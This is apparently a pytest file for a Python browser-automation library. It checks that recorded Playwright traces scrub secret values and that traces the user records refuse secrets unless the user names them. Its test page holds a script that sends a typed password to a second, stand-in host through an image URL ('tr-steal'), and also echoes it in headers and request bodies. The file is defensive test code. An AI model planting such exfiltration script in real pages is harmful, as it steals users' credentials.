"""Playwright traces: our verbs as named groups, traces we record with every variable value
scrubbed, and a trace the user records refused a secret (on both page kinds).

The hostile page echoes what is typed into it in every form the secrets module knows: upper and
lower case, decomposed Unicode, its URL (``encodeURIComponent``), base64 (standard and URL-safe)
in a console message and a request header, a JSON body, and a second host's image URL; the form
posts it (``application/x-www-form-urlencoded``), the server answers it back HTML-escaped, as
ASCII-escaped JSON and inside a binary image. The control (plain Playwright, a trace the user
records) finds every one of those forms in the unzipped trace; ours finds none.
"""

from __future__ import annotations

import base64
import contextlib
import gzip
import html
import json
import unicodedata
import urllib.parse
import zipfile
from pathlib import Path

import pytest
from _server import Request, Response

from stagehand_py import Action, SecretInTraceError, Stagehand
from stagehand_py.browser._recording import is_recording

CANARY = "Zq&canary 7!ë"
UTF8 = CANARY.encode()
#: Every form the page (or the server) writes the canary in, as the trace would hold it.
ENCODINGS = {
    "raw": CANARY,
    "upper": CANARY.upper(),
    "lower": CANARY.lower(),
    "nfd": unicodedata.normalize("NFD", CANARY),
    "uri-component": urllib.parse.quote(CANARY, safe="-_.!~*'()"),
    "form-urlencoded": urllib.parse.quote_plus(CANARY, safe="-_.*"),
    "base64": base64.b64encode(UTF8).decode(),
    "base64url": base64.urlsafe_b64encode(UTF8).decode().rstrip("="),
    "html": html.escape(CANARY),
    "json-ascii": json.dumps(CANARY)[1:-1],
}

PAGE = """<!doctype html><title>Sign in</title>
<form method=post action=/tr-posted><label>Password <input id=pw name=pw></label><button id=go>Sign in</button></form>
<p id=echo></p><p id=nfd></p><div id=pics></div>
<script>
document.getElementById('pw').addEventListener('input', async (e) => {
  const v = e.target.value;
  const b64 = btoa(unescape(encodeURIComponent(v)));
  console.log('typed', v, b64);
  document.getElementById('echo').textContent = v.toUpperCase() + ' / ' + v.toLowerCase();
  document.getElementById('echo').setAttribute('data-v', v);
  document.getElementById('nfd').textContent = v.normalize('NFD');
  history.replaceState(null, '', location.pathname + '?e=' + encodeURIComponent(v));
  const url = b64.replace(/\\+/g, '-').replace(/\\//g, '_').replace(/=+$/, '');
  document.getElementById('pics').innerHTML = '<img src="CROSS/tr-steal?q=' + encodeURIComponent(v) + '">' +
    '<img src="/tr-bin?v=' + encodeURIComponent(v) + '&u=' + url + '">';
  const r = await fetch('/tr-api?q=' + encodeURIComponent(v), {method: 'POST', body: JSON.stringify({v}),
                                                                 headers: {'X-Echo': b64}});
  await r.text();
  window.echoed = true;
});
</script>"""


def _api(req: Request) -> Response:
    body = json.dumps({"echo": req.query.get("q", "")}).encode()  # ASCII-escaped JSON, gzipped on the wire
    return Response(200, gzip.compress(body), "application/json", {"Content-Encoding": "gzip"})


def _binary(req: Request) -> Response:
    return Response(200, b"\x89PNG\r\n\x1a\n\x00\xff\xfe" + req.query.get("v", "").encode() + b"\x00\x80", "image/png")


def _posted(req: Request) -> Response:
    value = urllib.parse.parse_qs(req.body.decode()).get("pw", [""])[0]
    return Response.html(f"<title>Welcome</title><p>Signed in as {html.escape(value)}</p>")


@pytest.fixture
def hostile_site(server, cross_server):
    routes = [server.route("/tr-page", lambda req: Response.html(PAGE.replace("CROSS", cross_server.origin))),
              server.route("/tr-api", _api), server.route("/tr-bin", _binary), server.route("/tr-posted", _posted),
              cross_server.route("/tr-steal", lambda req: Response(200, b"", "image/gif"))]
    with contextlib.ExitStack() as stack:
        for route in routes:
            stack.enter_context(route)
        yield server.url("tr-page")


def found_in(zip_path: Path) -> dict[str, int]:
    """How often each encoding of the canary occurs across every entry of the unzipped trace."""
    with zipfile.ZipFile(zip_path) as archive:
        blobs = [archive.read(name) for name in archive.namelist()]
    return {name: sum(blob.count(form.encode()) for blob in blobs) for name, form in ENCODINGS.items()}


def titles_in(zip_path: Path) -> list[str]:
    """The group titles of the trace (what the trace viewer lists as our steps)."""
    with zipfile.ZipFile(zip_path) as archive:
        events = [json.loads(line) for line in archive.read("trace.trace").decode().splitlines() if line.strip()]
    return [e["title"] for e in events if e.get("type") == "before" and e.get("method") == "tracingGroup"]


FILL = Action(selector="#pw", method="fill", arguments=["%pw%"], description="[0-3] textbox: Password")
SUBMIT = Action(selector="#go", method="click", description="[0-4] button: Sign in")


async def _sign_in(sh: Stagehand, url: str, **variables: str) -> None:
    await sh.page.goto(url)
    await sh.act(FILL, variables=variables or {"pw": CANARY})
    await sh.page.wait_for_function("window.echoed === true")
    await sh.act(SUBMIT)
    await sh.page.wait_for_load_state()


async def test_control_a_plain_playwright_trace_keeps_the_canary_in_every_form(context, hostile_site, tmp_path) -> None:
    """The control: a trace the user records of a plain Playwright fill holds every encoding."""
    page = await context.new_page()
    await context.tracing.start(screenshots=True, snapshots=True)
    await page.goto(hostile_site)
    await page.fill("#pw", CANARY)
    await page.wait_for_function("window.echoed === true")
    await page.click("#go")
    await page.wait_for_load_state()
    await context.tracing.stop(path=tmp_path / "control.zip")
    counts = found_in(tmp_path / "control.zip")
    assert all(counts.values()), f"the page did not put these forms into the trace: {counts}"


async def test_our_trace_names_our_verbs_and_holds_no_canary(new_stagehand, hostile_site, tmp_path, page_kind) -> None:
    path = tmp_path / "trace.zip"
    sh = await new_stagehand(trace="on", trace_path=path)
    await sh.__aenter__()  # the trace starts with the first call (or the `async with`)
    assert is_recording(sh.page.context)
    await _sign_in(sh, hostile_site)
    await sh.close()

    assert sh.trace_path == path and not is_recording(sh.page.context)
    assert found_in(path) == dict.fromkeys(ENCODINGS, 0)
    titles = titles_in(path)
    assert 'act: fill "%pw%" "textbox: Password" [0-3]' in titles
    assert 'fill "%pw%" "textbox: Password" [0-3]' in titles  # the action, nested in its verb
    assert 'act: click "button: Sign in" [0-4]' in titles
    with zipfile.ZipFile(path) as archive:
        events = [json.loads(line) for line in archive.read("trace.trace").decode().splitlines() if line.strip()]
        assert not [n for n in archive.namelist() if n.startswith("screencast/")]  # pictures of typed text: left out
    groups = {e["title"]: e["callId"] for e in events if e.get("method") == "tracingGroup"}
    fills = [e for e in events if e.get("type") == "before" and e.get("method") == "fill"]
    assert fills and fills[0]["parentId"] == groups['fill "%pw%" "textbox: Password" [0-3]']
    assert json.loads(json.dumps(fills[0]["params"]))["value"] == "%pw%"  # the call's parameters, scrubbed


async def test_a_trace_the_user_records_is_refused_a_secret_unless_named(new_stagehand, hostile_site, tmp_path,
                                                                       page_kind) -> None:
    sh = await new_stagehand()
    context = sh.page.context
    await sh.page.goto(hostile_site)
    await context.tracing.start(screenshots=False, snapshots=True)
    with pytest.raises(SecretInTraceError, match="allow_secrets_in_trace=\\['pw'\\]") as refused:
        await sh.act(FILL, variables={"pw": CANARY})
    assert refused.value.variable == "pw" and CANARY not in str(refused.value)
    assert await sh.page.input_value("#pw") == ""  # nothing was typed
    await sh.act(Action(selector="#pw", method="fill", arguments=["not secret"], description="[0-3] textbox: Password"))
    await context.tracing.stop(path=tmp_path / "user.zip")
    assert found_in(tmp_path / "user.zip") == dict.fromkeys(ENCODINGS, 0)
    titles = titles_in(tmp_path / "user.zip")
    assert 'act: fill "%pw%" "textbox: Password" [0-3]' in titles  # the refused verb is there, named
    assert 'act: fill "not secret" "textbox: Password" [0-3]' in titles

    # Named by the user: typed, and the user's own trace keeps it (their choice).
    allowed = await new_stagehand(allow_secrets_in_trace=["pw"])
    await allowed.page.goto(hostile_site)
    await allowed.page.context.tracing.start(snapshots=True)
    await allowed.act(FILL, variables={"pw": CANARY})
    await allowed.page.context.tracing.stop(path=tmp_path / "allowed.zip")
    assert await allowed.page.input_value("#pw") == CANARY and found_in(tmp_path / "allowed.zip")["raw"]


async def test_trace_options_are_checked_and_a_second_trace_is_refused(context, tmp_path) -> None:
    page = await context.new_page()
    with pytest.raises(ValueError, match=r"Stagehand\(trace=...\) must be one of 'on', 'retain-on-failure', 'off'"):
        Stagehand(page, trace="always")  # type: ignore[arg-type]
    with pytest.raises(ValueError, match="allow_secrets_in_trace takes a list of variable names"):
        Stagehand(page, allow_secrets_in_trace="pw")
    await context.tracing.start()
    sh = Stagehand(page, trace="on", trace_path=tmp_path / "t.zip")
    with pytest.raises(ValueError, match="already records on this browser context"):
        await sh.snapshot()
    await sh.close()
    assert sh.trace_path is None and is_recording(context)  # the user's trace is left alone
    await context.tracing.stop()


async def test_retain_on_failure_keeps_the_trace_of_a_failed_call_only(new_stagehand, tmp_path, page_kind) -> None:
    kept, dropped = tmp_path / "failed.zip", tmp_path / "passed.zip"
    sh = await new_stagehand(trace="retain-on-failure", trace_path=dropped)
    await sh.page.set_content("<button>Go</button>")
    await sh.act(Action(selector="xpath=/html/body/button", method="click"))
    await sh.close()
    assert sh.trace_path is None and not dropped.exists()
    sh = await new_stagehand(trace="retain-on-failure", trace_path=kept)
    await sh.page.set_content("<button>Go</button>")
    with pytest.raises(Exception, match="matched nothing"):
        await sh.act(Action(selector="xpath=/html/body/a", method="click"), timeout=0.5)
    await sh.close()
    assert sh.trace_path == kept and "act: click" in " ".join(titles_in(kept))


def test_playwright_still_has_the_tracing_state_we_read() -> None:
    """``is_recording`` reads Playwright's client-side ``Tracing._is_tracing``: a release that
    moves it makes every trace count as recording (secrets refused); this fails first."""
    from playwright._impl.tracing import Tracing

    tracing = Tracing.__new__(Tracing)
    source = Tracing.__init__.__code__.co_names + Tracing._start_collecting_stacks.__code__.co_names
    assert "_is_tracing" in source and "_is_tracing" in Tracing._reset_stack_counter.__code__.co_names
    assert tracing is not None
